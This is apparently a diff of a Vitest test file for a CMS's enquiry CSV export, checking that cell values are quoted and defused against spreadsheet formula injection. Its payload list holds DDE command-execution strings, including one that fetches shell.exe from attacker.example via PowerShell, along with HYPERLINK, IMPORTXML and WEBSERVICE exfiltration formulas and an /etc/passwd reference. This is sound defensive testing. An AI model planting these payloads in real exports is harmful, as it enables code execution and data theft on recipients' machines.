@@ -2,14 +2,89 @@ import { describe, expect, it } from 'vitest'
 
 import { CSV_COLUMNS, csvCell, toCsv } from '@/cms/endpoints/export-enquiries'
 
+/**
+ * Formula-injection payloads from OWASP's "CSV Injection" page and the public
+ * lists built on it (DDE command execution, HYPERLINK/IMPORTXML exfiltration,
+ * formulas hidden behind a leading tab, CR or LF, and formulas that start
+ * after a separator or line break inside the value, where a spreadsheet that
+ * splits on `;` or tabs, or ignores the quoting, would begin a new cell).
+ */
+const OWASP_PAYLOADS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  "=cmd|' /C calc'!A0",
+  "=cmd|' /C notepad'!'A1'",
+  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
+  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
+  '=DDE("cmd";"/C calc";"!A0")A0',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "=10+20+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "+2+3+cmd|' /C calc'!A0",
+  '=HYPERLINK("http://attacker.example?leak="&A1&A2, "Error: please click for details")',
+  '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
+  '=WEBSERVICE("http://attacker.example/?"&A1)',
+  '=IMAGE("http://attacker.example/pixel.png")',
+  "='file:///etc/passwd'#$passwd.A1",
+  '=INFO("system")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\t',
+  '\r',
+  ' =1+1',
+  'x;=cmd',
+  'x,=cmd',
+  'x\t=1+1',
+  'x; =1+1',
+  'x\r=1+1',
+  'x\n=1+1',
+  'x\r\n@SUM(1+1)',
+  "Thanks!\n-2+3+cmd|' /C calc'!A0",
+  'x"=1+1',
+  'x",=1+1',
+  "x'=1+1",
+] as const
+
+/** Cells a spreadsheet has no reason to read as a formula: left as they are (RFC 4180 only). */
+const HARMLESS = [
+  ['plain', 'plain'],
+  ['a,b', '"a,b"'],
+  ['say "hi"', '"say ""hi"""'],
+  ['line\nbreak', '"line\nbreak"'],
+  ['سارة', 'سارة'],
+  ['info@example.com', 'info@example.com'],
+  ['50-100', '50-100'],
+  ['1+1=2', '1+1=2'],
+  ['', ''],
+] as const
+
+/** Reads one RFC 4180 cell back: the text a spreadsheet gets once it has removed the quoting. */
+function unquote(cell: string): string {
+  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell
+}
+
 describe('enquiry CSV export', () => {
-  it('quotes commas, quotes and line breaks, and defuses spreadsheet formulas', () => {
-    expect(csvCell('plain')).toBe('plain')
-    expect(csvCell('a,b')).toBe('"a,b"')
-    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
-    expect(csvCell('line\nbreak')).toBe('"line\nbreak"')
-    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
+  it.each(OWASP_PAYLOADS)('neutralises the OWASP payload %j', (payload) => {
+    const cell = csvCell(payload)
+    // Quoted whole, so no separator or line break inside can start a cell of its own…
+    expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true)
+    // …with a leading apostrophe, so the spreadsheet reads the cell as text…
+    expect(unquote(cell)).toBe(`'${payload}`)
+    // …and nothing outside the quotes.
+    expect(cell.slice(1, -1).replace(/""/g, '')).not.toContain('"')
+  })
+
+  it.each(HARMLESS)('leaves %j as text a spreadsheet shows unchanged', (value, expected) => {
+    expect(csvCell(value)).toBe(expected)
+  })
+
+  it('writes empty cells for missing values and quotes formulas with quotes inside', () => {
     expect(csvCell(null)).toBe('')
+    expect(csvCell(undefined)).toBe('')
+    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
   })
 
   it('writes a header row and one row per enquiry, with a BOM for Arabic text', () => {
@@ -18,6 +93,13 @@ describe('enquiry CSV export', () => {
     const [header, row] = csv.slice(1).trimEnd().split('\r\n')
     expect(header).toBe(CSV_COLUMNS.join(','))
     expect(row.split(',')[CSV_COLUMNS.indexOf('name')]).toBe('سارة')
-    expect(row.split(',')[CSV_COLUMNS.indexOf('full_mobile')]).toBe("'+965 5555")
+    expect(row.split(',')[CSV_COLUMNS.indexOf('full_mobile')]).toBe(`"'+965 5555"`)
+  })
+
+  it('keeps a multi-line payload inside its own row and cell', () => {
+    const csv = toCsv([{ name: 'x', message: 'hello\r\n=1+1', subject: 'y;=cmd' }])
+    const body = csv.slice(1).split('\r\n').slice(1).join('\r\n')
+    expect(body).toContain(`"'hello\r\n=1+1"`)
+    expect(body).toContain(`"'y;=cmd"`)
   })
 })
